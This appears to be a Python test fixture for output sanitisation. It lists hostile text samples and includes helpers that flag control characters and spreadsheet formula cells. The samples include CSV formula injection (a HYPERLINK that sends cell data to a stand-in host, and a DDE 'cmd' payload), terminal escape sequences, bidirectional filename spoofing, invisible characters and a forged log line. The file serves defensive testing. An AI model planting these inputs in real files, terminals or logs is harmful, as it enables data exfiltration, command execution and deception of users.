# SPDX-License-Identifier: Apache-2.0
"""Texts that a user might choose to harm whoever reads them, and what safe output is."""
import csv
import unicodedata

NAMES = [
    '=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m", "\u009b2J\u0085next", "gpj.\u202egnp\u2066\u200f\u061c", "\u200b\u2060ad\ufeffmin",
    "tag\U000e0041", "one\u2028two\u2029three", "first\nallotd: error: all is lost\rover\ttab", "\x7f",
]


def unsafe(text):
    """The characters of `text` that a terminal or a reader's eye would be misled by: none but line ends are due."""
    return {character for character in text
            if character != "\n" and unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")}


def formulas(text):
    """The cells of this CSV that a spreadsheet would compute. Numbers are none."""
    return [cell for row in csv.reader(text.splitlines()) for cell in row
            if cell.lstrip(" ").startswith(("=", "+", "-", "@")) and not cell.removeprefix("-").isdigit()]
